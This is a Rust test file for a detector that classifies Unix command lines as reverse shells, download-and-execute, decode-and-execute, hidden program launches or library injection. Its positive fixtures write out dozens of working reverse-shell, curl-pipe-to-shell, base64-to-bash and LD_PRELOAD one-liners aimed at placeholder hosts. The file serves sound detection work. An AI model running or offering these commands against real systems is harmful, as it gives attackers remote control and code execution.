//! What is seen in command lines of Unix systems.

use proptest::prelude::*;

use super::traits;
use crate::detect::command::{Language, Stdin, Traits};

/// What a shell's inline script does.
fn of_script(script: &str) -> Traits {
    traits("/bin/sh", &["-c".to_owned(), script.to_owned()], &Stdin::Other)
}

/// What a program with its arguments does.
fn of(words: &[&str]) -> Traits {
    let arguments: Vec<String> = words.iter().skip(1).map(ToString::to_string).collect();
    traits(words[0], &arguments, &Stdin::Other)
}

#[test]
fn scripts_that_tie_a_shell_to_the_network() {
    for script in [
        "bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
        "setsid nohup bash -i >& /dev/tcp/192.0.2.1/443 0>&1 & disown",
        "exec 5<>/dev/tcp/192.0.2.1/443; cat <&5 | while read line; do $line 2>&5 >&5; done",
        "0<&196;exec 196<>/dev/tcp/192.0.2.1/443; sh <&196 >&196 2>&196",
        "sh -i >& /dev/udp/192.0.2.1/53 0>&1",
        "mkfifo /run/s; /bin/sh -i < /run/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:443 > /run/s",
        "nc 192.0.2.1 443 | sh",
        "nc -e /bin/sh 192.0.2.1 443",
        "busybox nc 192.0.2.1 443 -e sh",
        "telnet 192.0.2.1 80 | /bin/bash | telnet 192.0.2.1 25",
        "socat tcp:192.0.2.1:443 exec:'bash -li',pty,stderr,setsid,sigint,sane",
        "export H=192.0.2.1; python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"a\",1));pty.spawn(\"sh\")'",
        "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
        "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"a:1\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
        "php -r '$s=fsockopen(\"a\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
        "ruby -rsocket -e'f=TCPSocket.open(\"a\",1).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
        "awk 'BEGIN {s=\"/inet/tcp/0/a/1\"; while(1){ s |& getline c; c |& getline }}'",
        "zsh -c 'zmodload zsh/net/tcp && ztcp a 1 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
    ] {
        assert!(of_script(script).network_shell.is_some(), "{script}");
    }
}

#[test]
fn scripts_that_do_not() {
    for script in [
        "until echo > /dev/tcp/127.0.0.1/5432; do sleep 1; done",
        "nc -z -w 3 127.0.0.1 5432",
        "echo PING | nc -w 1 127.0.0.1 6379",
        "socat TCP-LISTEN:80,fork TCP:127.0.0.1:8080",
        "mkfifo /run/app.pipe; /usr/bin/app < /run/app.pipe",
        "python3 -c 'import socket; print(socket.gethostname())'",
        "openssl s_client -connect a:443 < /dev/null | openssl x509 -noout -dates",
    ] {
        assert_eq!(of_script(script).network_shell, None, "{script}");
    }
}

#[test]
fn scripts_that_run_what_they_download() {
    for script in [
        "curl -s http://a/b | sh",
        "curl -s http://a/b|python3 -",
        "wget -q -O - http://a/b | sudo -u root bash -s -- --yes",
        "(curl -fsSL http://a/b || wget -q -O- http://a/b) | bash",
        "bash -c \"$(curl -fsSL http://a/b)\"",
        "bash <(curl -s http://a/b)",
        "source <(curl -s http://a/b)",
        "eval `wget -qO- http://a/b`",
        "curl -s http://a/b | base64 -d | gunzip | sh",
        "curl${IFS}-s${IFS}http://a/b|sh",
        "perl -e 'system(\"curl -s http://a/b | sh\")'",
        "python3 -c \"import urllib.request as u;exec(u.urlopen('http://a/b').read())\"",
        "bash <<< \"$(curl -s http://a/b)\"",
        "dig +short txt c2.example | tr -d '\"' | sh",
        "curl -s http://a/b | xargs -I{} sh -c {}",
        "curl -s http://a/b | xargs -0 bash -c",
        "curl -s http://a/b | bash -s -c",
        "U=http://a/b; curl -s $U | sh",
        "C='curl -s http://a/b | sh'; eval \"$C\"",
        "S=bash; wget -qO- http://a/b | $S",
        "awk 'BEGIN{system(\"curl -s http://a/b | sh\")}'",
    ] {
        assert!(of_script(script).download.is_some(), "{script}");
    }
    for script in [
        "curl -s http://a/b | jq .",
        "curl -s http://a/b -o /var/lib/app/data.json",
        "wget -q http://a/list && systemctl reload app",
        "curl -s http://a/b; sh /usr/local/bin/next",
        "host -t txt a.example | awk '{print $2}'",
        "curl -s http://a/b | xargs -I{} sh -c 'echo {} >> /var/lib/list'",
        "U=http://a/b; logger $U",
        "echo curl http://a/b \\| sh",
    ] {
        assert_eq!(of_script(script).download, None, "{script}");
    }
}

#[test]
fn scripts_that_run_what_they_decode() {
    for script in [
        "echo aWQ7IHdob2FtaTsgdW5hbWUgLWE= | base64 -d | bash",
        "{echo,aWQ7IHdob2FtaTsgdW5hbWUgLWE=}|{base64,-d}|{bash,-i}",
        "base64 -d <<< aWQ7IHdob2FtaTsgdW5hbWUgLWE= | sh",
        "bash -c \"$(echo aWQ7IHdob2FtaTsgdW5hbWUgLWE= | base64 --decode)\"",
        "printf '\\x69\\x64\\x3b\\x69\\x64\\x3b\\x69\\x64' | sh",
        "openssl enc -d -base64 -in /usr/share/x | sh",
        "xxd -r -p /usr/share/x | bash",
        "zcat /var/lib/app/x | sh",
        "gzip -dc /var/lib/app/x | bash",
        "gzip -d -c < /var/lib/app/x | sh -s -- --yes",
        "xz -dc < /var/lib/app/x | sh",
        "xz --decompress --stdout /var/lib/app/x | python3",
        "zstd -dcq /var/lib/app/x | sh",
        "busybox bzip2 -dc /var/lib/app/x | sudo sh",
        "tail -c +100 /var/lib/x | gunzip -c | bash",
        "unzip -p /var/lib/app/x.zip run | sh",
        "tar -xzOf /var/lib/app/x.tgz run | sh",
        "eval \"$(zcat /var/lib/app/x)\"",
        "bash -c \"$(gunzip -c /var/lib/app/x)\"",
        "bash <(xzcat /var/lib/app/x)",
        "python3 -c 'exec(bytes.fromhex(\"7072696e742831\"))'",
        "perl -e 'eval unpack u=>q{_<F5Q=6ER92}'",
        "php -r 'eval(base64_decode(\"c3lzdGVtKCdpZCcpOw==\"));'",
    ] {
        assert!(of_script(script).encoded.is_some(), "{script}");
    }
    for script in [
        "base64 -d /etc/app/key.b64 > /run/app/key",
        "openssl enc -d -aes-256-cbc -in /etc/app/x | /usr/bin/app --stdin",
        "python3 -c 'import json,base64,sys; print(base64.b64decode(sys.argv[1]))' x",
        "printf 'a\\x20b' | tee /run/x",
        "zcat log.gz | grep x",
        "zcat log.gz | awk '{print $1}' | sort -u",
        "gzip -dc dump.gz | mysql",
        "gzip -c dump | sh /usr/lib/app/store",
        "zcat data.gz | python3 /usr/lib/app/read.py",
        "awk '{print $1}' <(zcat log.gz)",
        "python3 /usr/lib/app/read.py <(zcat data.gz)",
        "tar -xzf /var/lib/app/x.tgz -C /opt && sh /opt/x/run",
    ] {
        assert_eq!(of_script(script).encoded, None, "{script}");
    }
}

#[test]
fn what_is_hidden_is_looked_at_as_well() {
    // curl -s http://a.example/b | sh
    let hidden = of_script("echo Y3VybCAtcyBodHRwOi8vYS5leGFtcGxlL2IgfCBzaA== | base64 -d | sh");
    assert!(hidden.encoded.is_some());
    assert!(hidden.download.is_some());
}

#[test]
fn programs_behind_others_are_found() {
    for (words, expected) in [
        (vec!["/usr/bin/env", "-i", "A=1", "/tmp/x", "-a"], "/tmp/x"),
        (vec!["/usr/bin/nice", "-n", "19", "/tmp/x"], "/tmp/x"),
        (vec!["/usr/bin/timeout", "-k", "5", "60", "/tmp/x"], "/tmp/x"),
        (vec!["/usr/bin/sudo", "-u", "www", "--", "/tmp/x"], "/tmp/x"),
        (vec!["/lib64/ld-linux-x86-64.so.2", "--library-path", "/opt/l", "/tmp/x"], "/tmp/x"),
        (vec!["/usr/lib/ld-2.31.so", "/tmp/x"], "/tmp/x"),
        (vec!["/lib64/ld64.so.2", "--audit", "/l.so", "/tmp/x"], "/tmp/x"),
        (vec!["/usr/bin/setpriv", "--reuid=1", "/usr/bin/nohup", "/tmp/x"], "/tmp/x"),
        (vec!["/usr/bin/python3", "-u", "/tmp/x.py"], "/tmp/x.py"),
        (vec!["/usr/bin/perl", "-w", "/tmp/x.pl", "-c"], "/tmp/x.pl"),
        (vec!["/bin/sh", "-c", "cd /opt && exec /tmp/x --flag"], "/tmp/x"),
        (vec!["/bin/sh", "-ec", "if true; then /tmp/x; fi"], "/tmp/x"),
    ] {
        let found = of(&words).runs;
        assert!(found.iter().any(|run| run == expected), "{words:?}: {found:?}");
    }
    for words in [
        vec!["/usr/bin/install", "-d", "/tmp/x"],
        vec!["/bin/sh", "-c", "rm -rf /tmp/x; mkdir /tmp/x"],
        vec!["/bin/sh", "-c", "/usr/bin/app < /tmp/x > /tmp/y"],
        vec!["/usr/bin/env", "A=/tmp/x", "/usr/bin/app"],
        vec!["/usr/bin/flock", "/tmp/x", "/usr/bin/app"],
    ] {
        let found = of(&words).runs;
        assert!(!found.iter().any(|run| run.starts_with("/tmp/")), "{words:?}: {found:?}");
    }
}

#[test]
fn variables_that_bring_code_along_are_noted() {
    for (words, expected) in [
        (
            vec!["/usr/bin/env", "LD_PRELOAD=/dev/shm/x.so", "A=1", "/usr/bin/x"],
            vec!["LD_PRELOAD=/dev/shm/x.so"],
        ),
        (vec!["/usr/bin/nice", "/usr/bin/env", "-u", "X", "LD_AUDIT=/x.so", "x"], vec!["LD_AUDIT=/x.so"]),
        (vec!["/lib64/ld-linux-x86-64.so.2", "--preload", "/x.so", "/usr/bin/x"], vec!["LD_PRELOAD=/x.so"]),
        (
            vec!["/lib/ld-musl-x86_64.so.1", "--library-path=/l", "--preload=/x.so", "/usr/bin/x"],
            vec!["LD_LIBRARY_PATH=/l", "LD_PRELOAD=/x.so"],
        ),
        (vec!["/bin/sh", "-c", "LD_PRELOAD='/x.so /y.so' exec x"], vec!["LD_PRELOAD=/x.so /y.so"]),
        (vec!["/bin/sh", "-c", "cd /; export LD_PRELOAD=/x.so; exec x"], vec!["LD_PRELOAD=/x.so"]),
        (vec!["/bin/sh", "-c", "LD_PRELOAD=/x.so\nexport LD_PRELOAD\nx"], vec!["LD_PRELOAD=/x.so"]),
        (vec!["/bin/sh", "-c", "exec env PATH=/tmp/b x"], vec!["PATH=/tmp/b"]),
        (vec!["/bin/sh", "-c", "if true; then LD_PRELOAD=/x.so x; fi"], vec!["LD_PRELOAD=/x.so"]),
        (vec!["/bin/sh", "-c", "MY_LD_PRELOAD=/x.so x; echo LD_PRELOAD=/x.so"], vec![]),
        (vec!["/usr/bin/x", "LD_PRELOAD=/x.so"], vec![]),
        (vec!["/usr/bin/env", "x", "LD_PRELOAD=/x.so"], vec![]),
        (vec!["/lib64/ld-linux-x86-64.so.2", "/usr/bin/x", "--preload", "/x.so"], vec![]),
    ] {
        assert_eq!(of(&words).assigns, expected, "{words:?}");
    }
}

#[test]
fn interpreters_and_their_code_are_told_apart() {
    for (words, language, inline) in [
        (vec!["/bin/bash", "-c", "id"], Some(Language::Shell), true),
        (vec!["/bin/bash", "-l", "-c", "id"], Some(Language::Shell), true),
        (vec!["/bin/bash", "/usr/bin/x"], Some(Language::Shell), false),
        (vec!["/bin/bash"], Some(Language::Shell), false),
        (vec!["/usr/bin/python3", "-m", "http.server"], Some(Language::Python), false),
        (vec!["/usr/bin/python3", "-c'print(1)'"], Some(Language::Python), true),
        (vec!["/usr/bin/awk", "{print}"], Some(Language::Awk), false),
        (vec!["/usr/bin/app", "-c", "x"], None, false),
    ] {
        let found = of(&words);
        assert_eq!((found.interpreter, found.inline.is_some()), (language, inline), "{words:?}");
    }
}

proptest! {
    #[test]
    fn any_command_line_gives_a_result(path in ".{0,30}", arguments in prop::collection::vec(".{0,60}", 0..6)) {
        traits(&path, &arguments, &Stdin::Text { text: path.clone(), encoded: false });
        of_script(&arguments.join(" "));
    }
}
